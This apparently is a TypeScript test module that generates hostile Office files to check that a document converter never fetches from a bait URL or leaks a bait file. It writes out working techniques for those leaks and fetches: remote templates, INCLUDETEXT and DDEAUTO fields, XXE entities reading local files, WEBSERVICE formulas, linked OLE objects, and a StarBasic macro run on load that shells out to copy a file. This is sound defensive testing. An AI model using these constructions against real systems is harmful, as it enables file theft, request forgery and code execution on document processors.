import { readFile } from 'node:fs/promises'
import { createHeavyDocuments } from './heavy-documents.ts'
import {
  docx,
  drawingXml,
  externalXml,
  fieldXml,
  formulaXml,
  packDocument,
  pptx,
  paragraphXml,
  slidePicture,
  relationshipsXml,
  type HostileDocument,
  xlsx,
} from './packed-document.ts'

/** What a document tries to reach: a server that must never be called, and a file whose text must never appear. */
export interface HostileTargets {
  url: string
  file: string
  /** A good document that is damaged for the test. */
  good: { docx: string; doc: string }
}

const reaching = (name: string, suffix: string, make: HostileDocument['make'], isShort = false): HostileDocument => ({
  name,
  suffix,
  make,
  isShort,
  reaches: true,
})

/** Documents that attack the converter. */
export const createHostileDocuments = (bait: HostileTargets): HostileDocument[] => [
  ...fetchingText(bait),
  ...fetchingSheets(bait),
  ...fetchingSlides(bait),
  ...masked(bait),
  ...createHeavyDocuments(bait.good),
]

function fetchingText({ url, file }: HostileTargets): HostileDocument[] {
  const outside = (type: string, target: string) => ({ id: 'rId9', type, target })
  const settings = (content: string, type: string, target: string) =>
    docx({
      body: paragraphXml('x'),
      relationshipsXml: [{ id: 'rId2', type: 'settings', target: 'settings.xml', isOutside: false }],
      more: {
        'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">${content}</w:settings>`,
        'word/_rels/settings.xml.rels': relationshipsXml(outside(type, target)),
      },
    })
  const ole = (type: string) =>
    `<w:p><w:r><w:object><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="rId9"/></v:shape><o:OLEObject Type="${type}" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>`
  const html = `<html><img src="${url}/chunk.png"><iframe src="file://${file}"></iframe><object data="file://${file}"></object></html>`
  return [
    reaching(
      'remote-template',
      'docx',
      () => settings('<w:attachedTemplate r:id="rId9"/>', 'attachedTemplate', `${url}/t.dotm`),
      true,
    ),
    reaching(
      'remote-picture',
      'docx',
      () => docx({ body: drawingXml('r:link="rId9"'), relationshipsXml: [outside('image', `${url}/a.png`)] }),
      true,
    ),
    reaching('remote-picture-vml', 'docx', () =>
      docx({
        body: `<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="rId9"/></v:shape></w:pict></w:r></w:p>`,
        relationshipsXml: [outside('image', `${url}/v.png`)],
      }),
    ),
    reaching(
      'local-picture',
      'docx',
      () =>
        docx({
          body: drawingXml('r:link="rId9"'),
          relationshipsXml: [outside('image', `file://${file.replace('txt', 'png')}`)],
        }),
      true,
    ),
    reaching(
      'include-text-file',
      'docx',
      () => docx({ body: fieldXml(`INCLUDETEXT "${file}" \\* MERGEFORMAT`) }),
      true,
    ),
    reaching('include-text-url', 'docx', () => docx({ body: fieldXml(`INCLUDETEXT "${url}/i.docx"`) })),
    reaching('include-picture-file', 'docx', () => docx({ body: fieldXml(`INCLUDEPICTURE "file://${file}" \\d`) })),
    reaching('include-picture-url', 'docx', () => docx({ body: fieldXml(`INCLUDEPICTURE "${url}/p.png" \\d`) }), true),
    reaching('dde-field', 'docx', () => docx({ body: fieldXml(`DDEAUTO soffice "${file}" "S1"`) })),
    reaching('chunk-from-outside', 'docx', () =>
      docx({ body: '<w:altChunk r:id="rId9"/>', relationshipsXml: [outside('aFChunk', `${url}/c.html`)] }),
    ),
    reaching('chunk-of-html', 'docx', () =>
      docx({
        body: '<w:altChunk r:id="rId9"/>',
        relationshipsXml: [{ ...outside('aFChunk', 'chunk.html'), isOutside: false }],
        more: { 'word/chunk.html': html },
      }),
    ),
    reaching('linked-object-file', 'docx', () =>
      docx({ body: ole('Link'), relationshipsXml: [outside('oleObject', `file://${file}`)] }),
    ),
    reaching('linked-object-url', 'docx', () =>
      docx({ body: ole('Link'), relationshipsXml: [outside('oleObject', `${url}/o.docx`)] }),
    ),
    reaching('sub-document', 'docx', () =>
      docx({ body: '<w:subDoc r:id="rId9"/>', relationshipsXml: [outside('subDocument', `${url}/s.docx`)] }),
    ),
    reaching('mail-merge', 'docx', () =>
      settings(
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rId9"/></w:mailMerge>',
        'mailMergeSource',
        `file://${file}`,
      ),
    ),
    reaching('picture-of-svg', 'docx', () =>
      docx({
        body: drawingXml('r:embed="rId9"'),
        relationshipsXml: [{ ...outside('image', 'media/i.svg'), isOutside: false }],
        more: {
          'word/media/i.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"><image xlink:href="${url}/svg.png" width="90" height="90"/><image xlink:href="file://${file}" width="9" height="9"/><script>1</script></svg>`,
        },
      }),
    ),
    reaching(
      'entity-from-file',
      'docx',
      () => docx({ doctype: `<!DOCTYPE w [<!ENTITY x SYSTEM "file://${file}">]>`, body: paragraphXml('&x;') }),
      true,
    ),
    reaching('entity-from-url', 'docx', () =>
      docx({ doctype: `<!DOCTYPE w SYSTEM "${url}/x.dtd">`, body: paragraphXml('x') }),
    ),
  ]
}

function fetchingSheets({ url, file }: HostileTargets): HostileDocument[] {
  const linked = (content: string, target: string) =>
    xlsx({
      rows: formulaXml('[1]Sheet1!$A$1'),
      workbook: '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
      relationshipsXml: [
        { id: 'rId9', type: 'externalLink', target: 'externalLinks/externalLink1.xml', isOutside: false },
      ],
      more: {
        'xl/externalLinks/externalLink1.xml': externalXml(content),
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationshipsXml({
          id: 'rId1',
          type: 'externalLinkPath',
          target,
        }),
      },
      overrides:
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    })
  const book = '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
  return [
    reaching('web-service', 'xlsx', () => xlsx({ rows: formulaXml(`_xlfn.WEBSERVICE("${url}/w")`) }), true),
    reaching('web-service-file', 'xlsx', () => xlsx({ rows: formulaXml(`_xlfn.WEBSERVICE("file://${file}")`) })),
    reaching('other-workbook', 'xlsx', () => linked(book, `${url}/b.xlsx`), true),
    reaching('other-workbook-file', 'xlsx', () => linked(book, `file://${file}`)),
    reaching('file-in-formula', 'xlsx', () => xlsx({ rows: formulaXml(`'file://${file}'#$Sheet1.A1`) })),
    reaching('dde-link', 'xlsx', () =>
      linked(
        `<ddeLink ddeService="soffice" ddeTopic="${file}"><ddeItems><ddeItem name="S1" advise="1"/></ddeItems></ddeLink>`,
        url,
      ),
    ),
    reaching('query-table', 'xlsx', () =>
      xlsx({
        rows: formulaXml('1'),
        relationshipsXml: [{ id: 'rId9', type: 'connections', target: 'connections.xml', isOutside: false }],
        more: {
          'xl/connections.xml': `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="${url}/q"/></connection></connections>`,
        },
      }),
    ),
    reaching('hyperlink-formula', 'xlsx', () => xlsx({ rows: formulaXml(`HYPERLINK("${url}/h","${url}/h")`) })),
  ]
}

function fetchingSlides({ url, file }: HostileTargets): HostileDocument[] {
  return [
    reaching('slide-picture', 'pptx', () =>
      pptx(slidePicture('r:link="rId9"'), { id: 'rId9', type: 'image', target: `${url}/s.png` }),
    ),
    reaching('slide-video', 'pptx', () =>
      pptx(
        slidePicture('r:link="rId9"', '<a:videoFile r:link="rId8"/>'),
        { id: 'rId9', type: 'image', target: `file://${file}` },
        { id: 'rId8', type: 'video', target: `${url}/v.mp4` },
      ),
    ),
  ]
}

/** Documents whose content does not match their suffix. */
function masked({ url, file, good }: HostileTargets): HostileDocument[] {
  const macro = `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main: Shell("/bin/sh", 0, "-c 'cat ${file} &gt; /scratch/x'"): End Sub</script:module>`
  const odt = {
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text/></office:body></office:document-content>`,
    'Basic/Standard/M.xml': macro,
    'META-INF/manifest.xml':
      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>',
  }
  return [
    reaching('page-as-doc', 'doc', () =>
      Buffer.from(`<html><img src="${url}/d.png"><iframe src="file://${file}"></iframe></html>`),
    ),
    reaching('rtf-as-doc', 'doc', () =>
      Buffer.from(
        `{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 00}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/r.png" \\\\d}}{\\field{\\*\\fldinst INCLUDETEXT "${file}"}}{\\*\\template ${url}/t.dot}}`,
      ),
    ),
    reaching('macro-of-basic', 'docx', () => packDocument(odt), true),
    reaching('macro-of-basic-in-disguise', 'docx', () => packDocument({ ...odt, 'word/document.xml': '<x/>' })),
    reaching('macro-of-word', 'docx', () =>
      docx({
        body: paragraphXml('x'),
        mainType: 'ms-word.document.macroEnabled.main',
        relationshipsXml: [{ id: 'rId9', type: 'vbaProject', target: 'vbaProject.bin', isOutside: false }],
        more: { 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') },
      }),
    ),
    { name: 'sheet-as-docx', suffix: 'docx', make: () => xlsx({ rows: formulaXml('1+1') }) },
    {
      name: 'broken-off',
      suffix: 'docx',
      isShort: true,
      make: async () => (await readFile(good.docx)).subarray(0, 3000),
    },
  ]
}
